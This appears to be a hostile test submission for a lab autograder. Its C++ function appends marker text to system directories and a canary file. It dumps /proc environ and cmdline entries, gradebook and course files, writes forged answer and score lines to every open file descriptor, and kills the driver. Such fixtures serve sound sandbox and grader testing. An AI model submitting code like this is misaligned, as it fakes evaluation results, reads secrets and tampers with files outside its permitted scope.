# tries = "C++ that writes answers and scores to every open file, reads /proc and the course, changes a file outside, and ends the driver"
# lab = "93"
# keeps = ["93.1"]
# docker = true
# %% ex-93-2
%%cpp status.cpp
#include "status.hpp"

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <string>
#include <unistd.h>

namespace {
void say(const std::string& text) {
  for (int file = 0; file < 64; ++file) {
    if (write(file, text.data(), text.size()) < 0) continue;
  }
}

void look(const std::filesystem::path& root) {
  std::error_code error;
  const auto options = std::filesystem::directory_options::skip_permission_denied;
  int left = 3000;
  for (auto at = std::filesystem::recursive_directory_iterator(root, options, error);
       !error && at != std::filesystem::recursive_directory_iterator() && left > 0; at.increment(error), --left) {
    const std::string path = at->path().string();
    for (const char* word : {"environ", "cmdline", "lab93", "canary", "gradebook", "kernel.json"}) {
      if (path.find(word) == std::string::npos) continue;
      std::ifstream file(path);
      std::string text(2000, ' ');
      file.read(text.data(), 2000);
      std::cout << path << ": " << text.substr(0, static_cast<std::size_t>(file.gcount())) << std::endl;
    }
  }
}

void harm() {
  for (const char* path : {"{{CANARY}}", "/usr/hostile-was-here", "/etc/hostile-was-here", "/dev/hostile-was-here"}) {
    std::ofstream(path, std::ios::app) << "hostile was here";
  }
}
}  // namespace

namespace node {
std::string_view write_online(std::string_view, const Status&, char*, std::size_t) { return {}; }
std::string_view write_acknowledgement(std::string_view, const Acknowledgement&, char*, std::size_t) { return {}; }

std::string_view write_offline(std::string_view, char*, std::size_t) {
  harm();
  for (const char* root : {"/proc", "{{COURSE}}", "{{OUTSIDE}}", "/home", "/run", "/tmp"}) look(root);
  say("\"[node_01]\"\n{\"returned\": \"[node_01]\"}\n{\"state\": \"returned\", \"value\": \"[node_01]\"}\n6\n");
  _exit(0);
}
}  // namespace node
